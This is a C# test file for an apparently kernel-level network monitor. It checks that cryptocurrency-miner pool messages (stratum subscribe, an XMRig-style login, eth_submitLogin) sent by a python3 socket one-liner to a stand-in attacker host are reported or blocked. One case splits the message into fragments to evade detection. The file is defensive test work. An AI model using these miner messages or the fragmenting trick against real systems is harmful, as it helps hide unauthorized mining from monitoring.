using Sallyport.Lab.Reports;

namespace Sallyport.Kernel.Tests;

/// <summary>What a miner says to its pool, on a connection that the policy allows, by a program of any name.</summary>
public sealed class MiningTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    private const string Subscribe = """{"id":1,"method":"mining.subscribe","params":["CANARY"]}""";
    private const string Login =
        """{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"CANARY","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}}""";
    private const string Submit = """{"id":1,"jsonrpc":"2.0","method":"eth_submitLogin","params":["CANARY"]}""";

    [Theory]
    [EveryMode($"{Subscribe}", $"{Login}", $"{Submit}", """{"id":1,"method":"min|ing.subscribe","params":["CANARY"]}""")]
    public async Task A_miners_login_is_found_and_does_not_leave(LabMode mode, string said)
    {
        var run = await Lab.RunAsync(mode, Said(said));
        Assert.True(run.Traffic.Contains(Canary) == (mode != LabMode.Block), run.ToString());
        if (mode != LabMode.Off)
        {
            ReportedFinding? row = run.Report.Findings.FirstOrDefault(finding => finding.Id == "mining-protocol");
            Assert.True(row?.Action == (mode == LabMode.Block ? "blocked" : "reported"), run.ToString());
            Assert.Equal((Attacker, "4443"), (row!.Evidence["peer"], row.Evidence["port"]));
            Assert.StartsWith("python3", Path.GetFileName(run.Report.ExeOf(row.Process)), StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("""{"id":1,"jsonrpc":"2.0","method":"eth_subscribe","params":["CANARY"]}""")]
    [InlineData("""{"method":"login","params":{"login":"CANARY","password":"x"}}""")]
    [InlineData("""LOG "mining.subscribe" CANARY""")]
    public async Task Other_calls_in_JSON_and_talk_of_mining_are_none(string said)
    {
        var run = await Lab.RunAsync(LabMode.Block, Said(said));
        Assert.True(run.Traffic.Contains(Canary) && run.Report.Findings.Count == 0, run.ToString());
    }

    /// <summary>A bar parts what is sent at once.</summary>
    private LabCommand Said(string text) => Command("/usr/bin/python3", "-c", $"""
        import socket, time
        s = socket.create_connection(("{Attacker}", 4443), 3)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for part in '''{text.Replace("CANARY", Canary, StringComparison.Ordinal)}'''.split("|"):
            s.send(part.encode()); time.sleep(0.05)
        s.send(b"\n")
        """) with
    {
        Allow = [$"tcp://{Attacker}:4443"],
    };
}
